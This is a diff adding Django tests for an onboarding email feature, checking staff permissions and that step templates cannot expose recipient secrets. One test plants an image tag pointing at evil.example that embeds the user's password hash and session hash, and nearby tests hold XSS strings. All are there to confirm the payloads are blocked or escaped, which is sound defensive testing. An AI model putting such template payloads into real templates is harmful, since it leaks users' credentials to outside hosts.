@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import uuid
+from datetime import datetime
 
 import pytest
 from django.urls import reverse
@@ -106,6 +107,41 @@ def test_the_preview_prints_markup_in_the_subject_and_text_as_text(admin_client)
     assert "<script>alert(2)" not in content and "<img src=x" not in content
     assert "&lt;script&gt;alert(2)&lt;/script&gt; &amp; Ada" in content
     assert "Subject: &lt;img src=x onerror=&quot;alert(1)&quot;&gt; Ada" in content
+
+
+def test_a_staff_user_without_permission_on_steps_cannot_preview_one(client, db):
+    step = StepFactory(sequence__key="preview-denied", subject="Internal: {{ first_name }}", html_body="<p>draft pricing</p>")
+    client.force_login(UserFactory(email="intern@example.com", is_staff=True))
+    assert client.get(reverse("admin:onboarding_step_change", args=[step.pk])).status_code == 403
+    assert client.get(reverse("admin:onboarding_step_preview", args=[step.pk])).status_code == 403
+
+
+def test_a_step_sees_what_the_preview_sees_and_no_secret_of_the_recipient(db, settings, mailoutbox):
+    # A template cannot walk from the recipient to their password hash (into an image on
+    # another host, which is not rewritten): the context holds plain values, the very names
+    # the preview has, so what staff preview is what goes out.
+    settings.ONBOARDING_DEFAULT_SEQUENCE = "no-secrets"
+    settings.ONBOARDING_EXPERIMENT_KEY = "no-such-experiment"
+    settings.ONBOARDING_QUIET_HOURS_START = settings.ONBOARDING_QUIET_HOURS_END = 0
+    step = fourteen_day_sequence("no-secrets").steps.get(position=0)
+    step.html_body = '<html><body><img src="https://evil.example/p.gif?h={{ user.password|urlencode }}&s={{ user.get_session_auth_hash }}"></body></html>'
+    step.text_body = "[{{ user.password }}] [{{ user }}]"
+    step.save()
+    user = UserFactory(email="recipient@example.com")
+    enrolment_create(user=user)
+    [send_id] = onboarding_tick().send_ids
+    assert send_deliver(send_id=send_id) == "sent"
+    [message] = mailoutbox
+    assert message.body.startswith("[] []")
+    assert 'src="https://evil.example/p.gif?h=&s="' in message.alternatives[0][0]
+    assert user.password not in message.body + message.alternatives[0][0]
+
+    from onboarding.services import _Links, _recipient_context, sample_context
+
+    send = Send.objects.select_related("enrolment__user", "enrolment__organization").get(pk=send_id)
+    real = _recipient_context(send.enrolment, trial=None, links=_Links.resolve(), unsubscribe="u")
+    assert real.keys() == sample_context().keys()
+    assert all(value is None or isinstance(value, str | datetime) for value in real.values())
 
 
 def test_the_staff_report_counts_per_variation(client, admin_client, onboarding_experiment, settings):
